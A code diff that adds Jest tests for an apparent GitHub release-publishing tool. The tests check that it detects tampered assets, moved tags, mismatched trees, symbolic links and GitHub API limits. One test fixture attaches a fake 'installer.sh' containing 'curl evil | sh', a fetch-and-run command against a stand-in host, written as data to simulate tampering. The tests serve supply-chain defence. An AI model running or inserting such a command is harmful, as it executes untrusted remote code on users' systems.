@@ -1,5 +1,5 @@
 import { createHash } from 'node:crypto'
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterAll, afterEach, beforeEach, describe, expect, test } from '@jest/globals'
@@ -262,6 +262,117 @@ describe('publish', () => {
       'release-id': end.outputs['release-id'],
     })
     expect(changes()).toHaveLength(4)
+  })
+
+  test('an asset that is replaced or added at the moment of the publication ends red, and so does every further run', async () => {
+    write('a.txt', 'good')
+    await draft()
+    github.faults.add({
+      operation: 'repos/update-release',
+      fault: {
+        kind: 'meanwhile',
+        act: () => {
+          const [release] = releases()
+          if (release === undefined) throw new Error('no draft')
+          release.assets.length = 0
+          service().releases.addAsset(release, { name: 'a.txt', content: 'EVIL' })
+          service().releases.addAsset(release, { name: 'installer.sh', content: 'curl evil | sh' })
+        },
+      },
+    })
+    const end = await publish({ assets: 'a.txt', target: commit })
+    expect(end.exitCode).toBe(1)
+    expect(end.outputs).toMatchObject({
+      outcome: 'failed',
+      draft: 'false',
+      reason: expect.stringMatching(
+        /a\.txt is not there with its digest.*installer\.sh was attached by somebody else/,
+      ),
+    })
+    const again = await publish({ assets: 'a.txt', target: commit })
+    expect(again.exitCode).toBe(1)
+    expect(again.outputs.outcome).toBe('refused')
+  })
+
+  test('a tag that is moved at the moment of the publication, or later, ends red in every run', async () => {
+    write('a.txt', 'good')
+    await draft()
+    const evil = service().commit({ branch: 'evil', additions: { 'README.md': 'evil' } })
+    github.faults.add({
+      operation: 'repos/update-release',
+      fault: { kind: 'meanwhile', act: () => void service().tag('1.2.3', evil) },
+    })
+    const end = await publish({ assets: 'a.txt', target: commit })
+    expect(end.outputs).toMatchObject({ outcome: 'failed', reason: expect.stringContaining(evil) })
+    const again = await publish({ assets: 'a.txt', target: commit })
+    expect(again.exitCode).toBe(1)
+    expect(again.outputs).toMatchObject({
+      outcome: 'refused',
+      reason: expect.stringContaining(`is at ${evil}, not at ${commit}. Somebody moved it`),
+    })
+  })
+
+  test('a commit whose tree is not the one that was checked is not published', async () => {
+    await draft()
+    const refused = await publish({ tree: 'f'.repeat(40) })
+    expect(refused.exitCode).toBe(1)
+    expect(refused.outputs).toMatchObject({
+      outcome: 'refused',
+      reason: expect.stringContaining(`but the tree ${'f'.repeat(40)} was checked`),
+    })
+    expect(releases()[0]?.draft).toBe(true)
+    const tree = service().git.readCommit(commit).tree
+    expect((await publish({ tree })).outputs.outcome).toBe('succeeded')
+  })
+
+  test('a name that GitHub changes, and a symbolic link, are refused before anything is attached', async () => {
+    write('app_1.0~rc1.deb', 'deb')
+    symlinkSync('/etc/hostname', join(workspace, 'linked.txt'))
+    await draft()
+    expect((await publish({ assets: 'app_1.0~rc1.deb' })).outputs).toMatchObject({
+      outcome: 'refused',
+      reason: expect.stringContaining('as `app_1.0.rc1.deb`'),
+    })
+    expect((await publish({ assets: 'linked.txt' })).outputs).toMatchObject({
+      outcome: 'failed',
+      reason: expect.stringContaining('symbolic link'),
+    })
+    expect(changes().filter((change) => change.startsWith('repos/upload'))).toEqual([])
+  })
+
+  test('globs with braces, and PEP 440 pre-releases, which never become the latest', async () => {
+    write('a.zip', 'x')
+    write('a.tgz', 'y')
+    await draft({ tag: '1.3.0rc1' })
+    const end = await publish({ tag: '1.3.0rc1', assets: '*.{zip,tgz}' })
+    expect(end.outputs.outcome).toBe('succeeded')
+    expect(releases()[0]).toMatchObject({ prerelease: true })
+    expect(releases()[0]?.assets).toHaveLength(2)
+  })
+
+  test('a refusal for good is not said to pass', async () => {
+    await draft()
+    github.faults.add({
+      operation: 'repos/update-release',
+      fault: { kind: 'status', status: 422, message: 'tag_name was used by an immutable release' },
+      times: 3,
+    })
+    const end = await publish()
+    expect(end.outputs).toMatchObject({
+      outcome: 'failed',
+      reason: expect.stringMatching(/used by an immutable release.*The release is still a draft\.$/),
+    })
+  })
+
+  test('more releases than GitHub lists', async () => {
+    for (let i = 0; i < 1_001; i++) service().releases.add({ tagName: `0.0.${i}`, draft: false })
+    github.faults.add({
+      operation: 'repos/list-releases',
+      fault: { kind: 'status', status: 422, message: 'Only the first 1000 results are available.' },
+      after: 10,
+      times: 1,
+    })
+    expect((await draft()).outputs.outcome).toBe('succeeded')
   })
 
   test('keeps what is attached already, replaces what differs, removes a broken upload', async () => {
